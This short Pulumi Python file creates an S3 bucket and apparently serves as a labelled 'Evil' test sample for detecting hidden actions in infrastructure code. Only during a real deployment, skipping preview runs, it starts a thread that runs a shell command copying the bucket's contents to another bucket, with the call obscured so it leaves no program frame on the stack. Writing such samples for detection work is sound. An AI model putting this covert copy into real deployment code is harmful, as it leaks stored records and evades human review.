"""Evil: when deployed, a thread whose target is os.system copies data out (no program frame on its stack)."""
import threading

import pulumi
import pulumi_aws as aws

aws.s3.Bucket("records")
if not pulumi.runtime.is_dry_run():
    threading.Thread(target=__import__("os").system, args=("aws s3 sync s3://records s3://us-copy",)).start()
